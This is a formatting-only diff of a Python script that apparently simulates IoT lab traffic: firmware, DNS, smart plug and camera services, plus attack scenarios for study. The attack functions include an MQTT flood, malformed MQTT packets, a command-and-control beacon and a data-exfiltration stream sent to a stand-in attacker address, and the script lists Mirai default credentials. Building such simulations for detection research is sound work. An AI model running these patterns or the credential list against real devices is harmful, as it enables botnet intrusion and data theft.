@@ -35,8 +35,16 @@ CNC_PORT = 6667
 EXFIL_PORT = 8443
 UDP_SINK_PORT = 5004
 DNS_NAMES = ("fw.lab", "time.lab", "api.lab", "mqtt.lab")
-MIRAI_CREDS = (("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"),
-               ("root", "default"), ("support", "support"), ("user", "user"), ("root", "12345"))
+MIRAI_CREDS = (
+    ("root", "xc3511"),
+    ("root", "vizxv"),
+    ("admin", "admin"),
+    ("root", "888888"),
+    ("root", "default"),
+    ("support", "support"),
+    ("user", "user"),
+    ("root", "12345"),
+)
 
 _stop = threading.Event()
 
@@ -70,8 +78,9 @@ class _ThreadingTCP(socketserver.ThreadingTCPServer):
 
 
 def _serve(server: socketserver.BaseServer) -> None:
-    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.2},
-                     daemon=True).start()
+    threading.Thread(
+        target=server.serve_forever, kwargs={"poll_interval": 0.2}, daemon=True
+    ).start()
 
 
 def _dns_answer(query: bytes, table: dict[str, str]) -> bytes | None:
@@ -80,10 +89,11 @@ def _dns_answer(query: bytes, table: dict[str, str]) -> bytes | None:
     qid, flags, qd = struct.unpack("!HHH", query[:6])
     if qd != 1 or flags & 0x8000:
         return None
-    labels, i = [], 12
+    labels: list[str] = []
+    i = 12
     while i < len(query) and query[i] != 0 and len(labels) < 64:
         n = query[i]
-        labels.append(query[i + 1:i + 1 + n].decode("ascii", "replace"))
+        labels.append(query[i + 1 : i + 1 + n].decode("ascii", "replace"))
         i += 1 + n
     end = i + 5
     if end > len(query):
@@ -136,9 +146,10 @@ def run_services(cfg: dict[str, Any]) -> None:
             pass
 
     class Firmware(http.server.BaseHTTPRequestHandler):
-        def do_GET(self) -> None:  # noqa: N802 (stdlib name)
-            body = json.dumps({"version": "1.4.2", "sha256": "0" * 64,
-                               "url": "https://fw.lab/fw-1.4.2.bin"}).encode()
+        def do_GET(self) -> None:
+            body = json.dumps(
+                {"version": "1.4.2", "sha256": "0" * 64, "url": "https://fw.lab/fw-1.4.2.bin"}
+            ).encode()
             code = 200 if self.path.startswith("/firmware/") else 404
             self.send_response(code)
             self.send_header("Content-Type", "application/json")
@@ -169,14 +180,18 @@ def run_services(cfg: dict[str, Any]) -> None:
         for plug_ip in plugs:
             method = "POST" if rng.random() < 0.1 else "GET"
             path = "/relay/toggle" if method == "POST" else "/status"
-            with contextlib.suppress(OSError):
-                with socket.create_connection((plug_ip, 80), timeout=2) as s:
-                    s.sendall(f"{method} {path} HTTP/1.1\r\nHost: {plug_ip}\r\n"
-                              f"Authorization: {auth}\r\nConnection: close\r\n"
-                              "Content-Length: 0\r\n\r\n".encode())
-                    s.settimeout(2)
-                    while s.recv(4096):
-                        pass
+            with (
+                contextlib.suppress(OSError),
+                socket.create_connection((plug_ip, 80), timeout=2) as s,
+            ):
+                s.sendall(
+                    f"{method} {path} HTTP/1.1\r\nHost: {plug_ip}\r\n"
+                    f"Authorization: {auth}\r\nConnection: close\r\n"
+                    "Content-Length: 0\r\n\r\n".encode()
+                )
+                s.settimeout(2)
+                while s.recv(4096):
+                    pass
         if not _sleep(float(rng.uniform(1.5, 3.5)), until):
             break
 
@@ -296,14 +311,15 @@ def run_plug(cfg: dict[str, Any]) -> None:
                 return False
             return True
 
-        def do_GET(self) -> None:  # noqa: N802
+        def do_GET(self) -> None:
             if self._authorised():
                 with lock:
                     state["watts"] = max(0.0, state["watts"] + float(rng.normal(0, 0.5)))
-                    self._reply(200, {"on": state["on"],
-                                      "power_w": round(state["watts"] * state["on"], 2)})
+                    self._reply(
+                        200, {"on": state["on"], "power_w": round(state["watts"] * state["on"], 2)}
+                    )
 
-        def do_POST(self) -> None:  # noqa: N802
+        def do_POST(self) -> None:
             if self._authorised():
                 with lock:
                     state["on"] = not state["on"]
@@ -334,8 +350,9 @@ def run_camera(cfg: dict[str, Any]) -> None:
             n_pkts = 4 if frame % (fps * 2) == 0 else 1  # keyframe every 2 s
             for _ in range(n_pkts):
                 size = int(rng.integers(300, 1100)) if n_pkts == 1 else 1200
-                hdr = struct.pack("!BBHII", 0x80, 96, seq & 0xFFFF, (frame * 9000) & 0xFFFFFFFF,
-                                  ssrc)
+                hdr = struct.pack(
+                    "!BBHII", 0x80, 96, seq & 0xFFFF, (frame * 9000) & 0xFFFFFFFF, ssrc
+                )
                 with contextlib.suppress(OSError):
                     s.sendto(hdr + bytes(size), dest)
                 seq += 1
@@ -371,21 +388,27 @@ def run_gateway(cfg: dict[str, Any]) -> None:
         with contextlib.suppress(OSError):
             _dns_query(str(rng.choice(DNS_NAMES)), srv, int(rng.integers(0, 65536)))
         if now >= next_ntp:
-            with contextlib.suppress(OSError), socket.socket(socket.AF_INET,
-                                                             socket.SOCK_DGRAM) as s:
+            with (
+                contextlib.suppress(OSError),
+                socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s,
+            ):
                 s.settimeout(1.0)
                 s.sendto(b"\x23" + bytes(47), (srv, 123))
                 s.recv(48)
             next_ntp = now + float(rng.uniform(14, 18))
         if now >= next_fw:
             ip = _dns_query("fw.lab", srv, int(rng.integers(0, 65536))) or srv
-            with contextlib.suppress(OSError, ssl.SSLError):
-                with socket.create_connection((ip, 443), timeout=3) as raw, \
-                        ctx.wrap_socket(raw, server_hostname="fw.lab") as tls:
-                    tls.sendall(b"GET /firmware/latest.json HTTP/1.1\r\nHost: fw.lab\r\n"
-                                b"Connection: close\r\n\r\n")
-                    while tls.recv(4096):
-                        pass
+            with (
+                contextlib.suppress(OSError, ssl.SSLError),
+                socket.create_connection((ip, 443), timeout=3) as raw,
+                ctx.wrap_socket(raw, server_hostname="fw.lab") as tls,
+            ):
+                tls.sendall(
+                    b"GET /firmware/latest.json HTTP/1.1\r\nHost: fw.lab\r\n"
+                    b"Connection: close\r\n\r\n"
+                )
+                while tls.recv(4096):
+                    pass
             next_fw = now + float(rng.uniform(25, 35))
         if not _sleep(float(rng.uniform(3.0, 6.0)), until):
             break
@@ -395,8 +418,7 @@ def run_gateway(cfg: dict[str, Any]) -> None:
 def run_mqtt_flood(cfg: dict[str, Any]) -> None:
     """Publish flood to the broker from a compromised sensor, rate-bounded."""
     until, rate = float(cfg["until"]), float(cfg.get("rate_pps", 200))
-    with contextlib.suppress(OSError), _mqtt_session(cfg["services_ip"],
-                                                     f"{cfg['name']}-x") as s:
+    with contextlib.suppress(OSError), _mqtt_session(cfg["services_ip"], f"{cfg['name']}-x") as s:
         for i in range(int(rate * max(_left(until), 0)) + 1):
             s.sendall(mqtt.publish(f"lab/{cfg['name']}/telemetry", b"A" * 64 + str(i).encode()))
             if not _sleep(1.0 / rate, until):
@@ -407,8 +429,10 @@ def run_mqtt_malformed(cfg: dict[str, Any]) -> None:
     """Malformed MQTT packets, one fresh connection each (the broker drops the connection)."""
     until = float(cfg["until"])
     for i in range(MAX_ITER):
-        with contextlib.suppress(OSError), socket.create_connection(
-                (cfg["services_ip"], 1883), timeout=1) as s:
+        with (
+            contextlib.suppress(OSError),
+            socket.create_connection((cfg["services_ip"], 1883), timeout=1) as s,
+        ):
             s.sendall(mqtt.malformed(i))
             s.settimeout(0.3)
             with contextlib.suppress(OSError):
@@ -422,8 +446,10 @@ def run_cnc_beacon(cfg: dict[str, Any]) -> None:
     until = float(cfg["until"])
     rng = np.random.default_rng(int(cfg["seed"]))
     for _ in range(MAX_ITER):
-        with contextlib.suppress(OSError), socket.create_connection(
-                (cfg["attacker_ip"], CNC_PORT), timeout=2) as s:
+        with (
+            contextlib.suppress(OSError),
+            socket.create_connection((cfg["attacker_ip"], CNC_PORT), timeout=2) as s,
+        ):
             s.sendall(b"\x00\x00\x00\x01" + bytes([len(cfg["name"])]) + cfg["name"].encode())
             s.settimeout(2)
             for _ in range(5):
@@ -461,11 +487,13 @@ def run_exfil(cfg: dict[str, Any]) -> None:
     rng = np.random.default_rng(int(cfg["seed"]))
     secret = bytes(rng.integers(0, 256, size=4096, dtype=np.uint8))
     pos = 0
-    with contextlib.suppress(OSError), socket.create_connection(
-            (cfg["attacker_ip"], EXFIL_PORT), timeout=2) as s:
+    with (
+        contextlib.suppress(OSError),
+        socket.create_connection((cfg["attacker_ip"], EXFIL_PORT), timeout=2) as s,
+    ):
         for _ in range(MAX_ITER):
             n = int(rng.integers(100, 300))
-            s.sendall(secret[pos:pos + n])
+            s.sendall(secret[pos : pos + n])
             pos = (pos + n) % len(secret)
             if not _sleep(float(rng.uniform(1.5, 3.0)), until):
                 break
